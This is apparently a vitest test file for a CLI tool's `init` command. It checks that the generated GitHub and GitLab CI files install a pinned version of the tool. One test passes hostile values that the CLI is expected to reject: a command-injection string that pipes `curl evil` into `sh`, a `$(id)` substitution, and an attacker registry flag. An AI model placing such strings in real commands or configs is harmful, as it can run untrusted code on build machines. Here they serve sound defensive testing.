/**
 * The CI files `init` writes install a pinned modelreg (issue 15): the exact version that ran
 * init, or what `--cli-source` names (a tarball, a Git URL, a folder), never a bare package name
 * that anyone could publish. The written workflows are read back as YAML and asserted.
 */
import { existsSync, readFileSync } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import YAML from 'yaml';
import { describe, expect, it } from 'vitest';
import { commitCount, runCli, tempDir } from '../helpers/repo.js';

const VERSION = (JSON.parse(readFileSync(new URL('../../package.json', import.meta.url), 'utf8')) as { version: string }).version;

interface Step { name?: string; run?: string; uses?: string }

function workflows(dir: string): { github: string; steps: Step[]; gitlab: string; script: string[] } {
  const github = readFileSync(join(dir, '.github/workflows/modelreg.yml'), 'utf8');
  const gitlab = readFileSync(join(dir, '.gitlab-ci.yml'), 'utf8');
  const steps = (YAML.parse(github) as { jobs: { check: { steps: Step[] } } }).jobs.check.steps;
  const script = (YAML.parse(gitlab) as { 'modelreg-check': { script: string[] } })['modelreg-check'].script;
  return { github, steps, gitlab, script };
}

/** Every step after the install runs the installed `modelreg`; nothing fetches a package by bare name. */
function expectPinned(dir: string, spec: string): void {
  const { github, steps, gitlab, script } = workflows(dir);
  const install = `npm install --global --no-audit --no-fund '${spec}'`;
  const at = steps.findIndex((s) => s.run === install);
  expect(at, github).toBeGreaterThan(steps.findIndex((s) => s.uses?.startsWith('actions/setup-node')));
  const checks = steps.filter((s) => s.run?.includes('check'));
  expect(checks.map((s) => s.run!.split(' ').slice(0, 2).join(' '))).toEqual(['modelreg check', 'modelreg check', 'modelreg check']);
  expect(steps.indexOf(checks[0])).toBeGreaterThan(at);
  expect(script[0]).toBe(install);
  const run = script.join('\n');
  for (const check of ['modelreg check --forge gitlab', 'modelreg check --base "$CI_MERGE_REQUEST_DIFF_BASE_SHA"', 'modelreg check --format gitlab']) expect(run).toContain(check);
  for (const text of [github, gitlab]) expect(text).not.toMatch(/npx/);
}

describe('init: the CI files run a pinned modelreg', () => {
  it('by default, the exact version that ran init, from the npm registry', async () => {
    const parent = await tempDir();
    const r = await runCli(['init', 'reg', '--ci', 'github,gitlab', '--json'], { cwd: parent });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toBe('');
    expect(JSON.parse(r.stdout)).toMatchObject({ cliSource: `modelreg@${VERSION}`, warnings: [] });
    expectPinned(join(parent, 'reg'), `modelreg@${VERSION}`);
  });

  it('--cli-source: a tarball committed in the repository, a Git URL at a tag, an https tarball', async () => {
    for (const spec of ['./tools/modelreg-0.1.0.tgz', 'git+https://git.example.com/ml/modelreg.git#v0.1.0', 'https://artifacts.example.com/npm/modelreg-0.1.0.tgz']) {
      const parent = await tempDir();
      const dir = join(parent, 'reg');
      if (spec.startsWith('./')) {
        await mkdir(join(dir, 'tools'), { recursive: true });
        await writeFile(join(dir, 'tools/modelreg-0.1.0.tgz'), 'tarball');
      }
      const r = await runCli(['init', 'reg', '--ci', 'github,gitlab', '--cli-source', spec], { cwd: parent });
      expect(r.code, r.stderr).toBe(0);
      expect(r.stderr, spec).toBe('');
      expectPinned(dir, spec);
    }
  });

  it('warns about a source that is not pinned, and still writes it', async () => {
    const cases: Array<[string, RegExp]> = [
      ['git+https://git.example.com/ml/modelreg.git', /names no commit or tag/],
      ['modelreg@^0.1.0', /not one exact version/],
      ['modelreg', /not one exact version/],
      ['http://artifacts.example.com/modelreg-0.1.0.tgz', /without TLS/],
      ['./tools/modelreg-0.1.0.tgz', /not in the repository yet/],
    ];
    for (const [spec, warning] of cases) {
      const parent = await tempDir();
      const r = await runCli(['init', 'reg', '--ci', 'github,gitlab', '--cli-source', spec], { cwd: parent });
      expect(r.code, r.stderr).toBe(0);
      expect(r.stderr, spec).toMatch(new RegExp(`^warning: .*${warning.source}`));
      expectPinned(join(parent, 'reg'), spec);
    }
  });

  it('refuses a source CI could not use, and creates nothing', async () => {
    for (const spec of ["modelreg@0.1.0'; curl evil | sh #", 'modelreg 0.1.0', '--registry=https://evil.example.com', '/home/me/modelreg-0.1.0.tgz', '$(id)']) {
      const parent = await tempDir();
      const r = await runCli(['init', 'reg', `--cli-source=${spec}`], { cwd: parent });
      expect(r.code, `${spec}: ${r.stderr}`).toBe(2);
      expect(r.stderr).toContain('--cli-source');
      expect(existsSync(join(parent, 'reg')), spec).toBe(false);
    }
  });

  it('on an existing registry, leaves its CI files alone and says so', async () => {
    const parent = await tempDir();
    expect((await runCli(['init', 'reg', '--ci', 'github,gitlab'], { cwd: parent })).code).toBe(0);
    const dir = join(parent, 'reg');
    const r = await runCli(['init', '--ci', 'github,gitlab', '--cli-source', 'git+https://git.example.com/ml/modelreg.git#v0.2.0'], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/^warning: \.github\/workflows\/modelreg\.yml and \.gitlab-ci\.yml already existed and were left as they were/);
    expect(commitCount(dir)).toBe(1);
    expectPinned(dir, `modelreg@${VERSION}`);
  });
});
